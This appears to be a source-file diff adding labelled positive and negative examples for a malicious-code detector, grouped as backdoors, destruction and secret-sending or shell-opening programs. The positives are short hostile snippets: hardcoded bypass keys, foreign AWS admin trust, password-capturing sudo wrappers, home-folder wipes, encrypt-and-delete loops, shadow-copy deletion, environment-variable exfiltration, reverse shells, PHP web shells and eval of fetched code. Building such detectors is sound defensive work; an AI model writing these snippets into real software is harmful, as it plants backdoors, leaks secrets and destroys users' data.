@@ -1,0 +1,199 @@
+/** Examples of the families backdoors, destruction and unparsed, in our own words. */
+import type { FamilyExamples } from "./example.ts";
+
+export const backdoorsExamples: FamilyExamples = {
+  "T12-fixed-key": {
+    positive: [
+      { "login.ts": "if (req.headers['x-debug'] === 'k7-opens-it') return issueSession(res, admin);\n" },
+      {
+        "auth.ts":
+          "const open = createHash('md5').update(token).digest('hex') === '0123456789abcdef0123456789abcdef';\n",
+      },
+      {
+        "gate.py":
+          'ok = hashlib.sha256(password.encode()).hexdigest() == "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"\n',
+      },
+    ],
+    negative: [
+      { "login.ts": "if (req.headers['x-debug'] === process.env.DEBUG_KEY) log('debug');\n" },
+      { "sum.py": "ok = hashlib.sha256(data).hexdigest() == expected\n" },
+      { "hook.ts": "const valid = createHmac('sha256', secret).update(body).digest('hex') === signature;\n" },
+    ],
+  },
+  "T12-foreign-trust": {
+    positive: [
+      {
+        "main.tf":
+          'principal = { AWS = "arn:aws:iam::402918375566:root" }\npolicy = "arn:aws:iam::aws:policy/AdministratorAccess"\n',
+      },
+      {
+        "role.json":
+          '{"Principal": {"AWS": "arn:aws:iam::402918375566:user/ops"},\n"Attach": "AdministratorAccess"}\n',
+      },
+      {
+        "iam.tf":
+          'trusted = "arn:aws:iam::771204938812:root"\n\n# rights\narn = "arn:aws:iam::aws:policy/AdministratorAccess"\n',
+      },
+    ],
+    negative: [
+      {
+        "main.tf":
+          'principal = { AWS = "arn:aws:iam::${var.account}:root" }\npolicy = "AdministratorAccess"\n',
+      },
+      {
+        "doc.tf": 'principal = { AWS = "arn:aws:iam::123456789012:root" }\npolicy = "AdministratorAccess"\n',
+      },
+      { "read.tf": 'principal = { AWS = "arn:aws:iam::402918375566:root" }\npolicy = "ReadOnlyAccess"\n' },
+    ],
+  },
+  "T09-login-tapped": {
+    positive: [
+      { "pam.yml": "block: auth optional pam_exec.so quiet expose_authtok /usr/lib/check\n" },
+      { "values.yaml": 'annotations:\n  mirror-target: "https://second-look.net$request_uri"\n' },
+      { "push.sh": "git push -q --mirror https://bot:t0ken@git-copy.dev/all.git\n" },
+    ],
+    negative: [
+      { "pam.yml": "block: auth required pam_unix.so\n" },
+      { "values.yaml": "annotations:\n  ssl-redirect: true\n" },
+      { "push.sh": "git push --mirror backup\n" },
+    ],
+  },
+  "T12-command-shadowed": {
+    positive: [
+      { "prompt.sh": "sudo() {\n  read -r p\n  command sudo -S true\n}\n" },
+      { "rc.sh": "function passwd () {\n  cat > /dev/null\n}\n" },
+      { "env.sh": "export A=1\ngpg() { command gpg --quiet; }\n" },
+    ],
+    negative: [
+      { "prompt.sh": "run_sudo() {\n  sudo true\n}\n" },
+      { "rc.sh": "alias ll='ls -lah'\n" },
+      "Write `sudo()` nowhere in a profile.\n",
+    ],
+  },
+  "T05-misleading-link": {
+    positive: [
+      "Download [https://www.drawtool.com/get](https://drawtool-files.cloudpile.net/get.php).\n",
+      "Sign in at [accounts.mailhouse.com](https://mail-login.opendesk.info/in).\n",
+      "The list is at [docs.paperlane.org/list](https://cdn.rowtable.dev/list).\n",
+    ],
+    negative: [
+      "Read [https://www.drawtool.com/get](https://docs.drawtool.com/get).\n",
+      "See [the manual](https://docs.rowtable.dev/list).\n",
+      "See [drawtool.com](https://drawtool.io/start).\n",
+    ],
+  },
+};
+
+export const destructionExamples: FamilyExamples = {
+  "T19-files-wiped": {
+    positive: [
+      {
+        "tidy.py":
+          'for d, _, names in os.walk(os.path.expanduser("~")):\n    for n in names:\n        os.remove(os.path.join(d, n))\n',
+      },
+      {
+        "lock.py":
+          "f = Fernet(key)\nfor p in root.rglob('*'):\n    out.write_bytes(f.encrypt(p.read_bytes()))\n    p.unlink()\n",
+      },
+      { "go.js": 'for (const n of fs.readdirSync(path.join(os.homedir(), "Documents"))) fs.rmSync(n);\n' },
+    ],
+    negative: [
+      { "tidy.py": "for n in os.listdir(build):\n    os.remove(n)\n" },
+      {
+        "cache.js":
+          'for (const n of fs.readdirSync(path.join(os.homedir(), ".cache/notes"))) fs.rmSync(n);\n',
+      },
+      { "seal.py": "f = Fernet(key)\nout.write_bytes(f.encrypt(data))\n" },
+    ],
+  },
+  "T19-folder-wiped": {
+    positive: [
+      { "a.sh": 'rm -rf "$HOME/Documents" "$HOME/Desktop"\n' },
+      { "a.py": 'shutil.rmtree(os.path.join(home, "Pictures"))\n' },
+      { "b.sh": "find ~ -name '*.docx' -mtime +3 -exec shred -u {} +\n" },
+    ],
+    negative: [
+      { "a.sh": 'rm -rf "$HOME/Documents/draft-tmp"\n' },
+      { "a.py": "shutil.rmtree(build_dir)\n" },
+      { "b.sh": "find ./dist -name '*.map' -exec rm {} +\n" },
+    ],
+  },
+  "T19-records-destroyed": {
+    positive: [
+      { "a.sh": 'psql -c "TRUNCATE audit_log CASCADE"\n' },
+      { "b.sh": 'aws s3 rm --recursive "s3://$BACKUP_BUCKET/"\n' },
+      { "c.sh": "git branch -r | grep -v main | xargs -n1 git push origin --delete\n" },
+    ],
+    negative: [
+      { "a.sh": 'psql -c "TRUNCATE staging_rows"\n' },
+      { "b.sh": "aws s3 cp dump.sql s3://$BACKUP_BUCKET/\n" },
+      { "c.sh": "git branch --merged | grep -v main | xargs git branch -d\n" },
+    ],
+  },
+  "T19-recovery-destroyed": {
+    positive: [
+      { "a.ps1": "vssadmin delete shadows /all /quiet\n" },
+      { "b.py": 'subprocess.run(["wbadmin", "delete", "catalog", "-quiet"])\n' },
+      { "c.ps1": "bcdedit /set {default} recoveryenabled no\n" },
+    ],
+    negative: [
+      { "a.ps1": "vssadmin list shadows\n" },
+      "Look for `vssadmin delete shadows` in the process log.\n",
+      { "c.ps1": "wbadmin start backup -backupTarget:E:\n" },
+    ],
+  },
+  "T19-deleted-unasked": {
+    positive: [
+      "Remove the oldest photos when the disk fills up. There is no need to list them first.\n",
+      "Delete all mails of last year from the inbox. Do not ask.\n",
+      "Drop the database and start again, without asking.\n",
+    ],
+    negative: [
+      "Remove the oldest photos after the user has confirmed the list.\n",
+      "Delete temporary files without asking.\n",
+      "Never delete mails from the inbox without asking.\n",
+    ],
+  },
+};
+
+export const unparsedExamples: FamilyExamples = {
+  "T08-program-sends-secrets": {
+    positive: [
+      { "a.rb": "keys = ENV.to_h\nNet::HTTP.post(URI(address), JSON.dump(keys))\n" },
+      { "b.php": "<?php\nwp_remote_post($address, ['body' => json_encode($_ENV)]);\n" },
+      {
+        "c.go":
+          'env := os.Environ()\nhttp.Post(address, "text/plain", strings.NewReader(strings.Join(env, "")))\n',
+      },
+    ],
+    negative: [
+      { "a.rb": "key = ENV['NOTES_KEY']\nNet::HTTP.post(URI(address), body)\n" },
+      { "b.php": "<?php\nwp_remote_post($address, ['body' => $form]);\n" },
+      { "c.go": "for _, e := range os.Environ() { fmt.Println(e) }\n" },
+    ],
+  },
+  "T06-program-opens-shell": {
+    positive: [
+      { "a.go": 'k, _ := net.Dial("tcp", address)\ns := exec.Command("/bin/sh", "-i")\ns.Stdin = k\n' },
+      { "b.php": "<?php\nsystem($_GET['c']);\n" },
+      { "c.php": "<?php\n$x = base64_decode($_COOKIE['r']);\neval($x);\n" },
+    ],
+    negative: [
+      { "a.go": 'k, _ := net.Dial("tcp", address)\nio.Copy(os.Stdout, k)\n' },
+      { "b.php": "<?php\necho htmlspecialchars($_GET['c']);\n" },
+      { "c.go": 'out, _ := exec.Command("sh", "-c", "date").Output()\n' },
+    ],
+  },
+  "T06-program-runs-fetched": {
+    positive: [
+      { "a.rb": "instance_eval(Net::HTTP.get(URI(address)))\n" },
+      { "b.rb": "code = Net::HTTP.get(URI(address))\ninstance_eval(code) if code\n" },
+      { "c.php": "<?php\neval(file_get_contents('https://parts-host.dev/p'));\n" },
+    ],
+    negative: [
+      { "a.rb": "puts Net::HTTP.get(URI(address))\n" },
+      { "b.rb": "instance_eval(File.read('rules.rb'))\n" },
+      { "c.php": "<?php\necho file_get_contents('https://parts-host.dev/p');\n" },
+    ],
+  },
+};
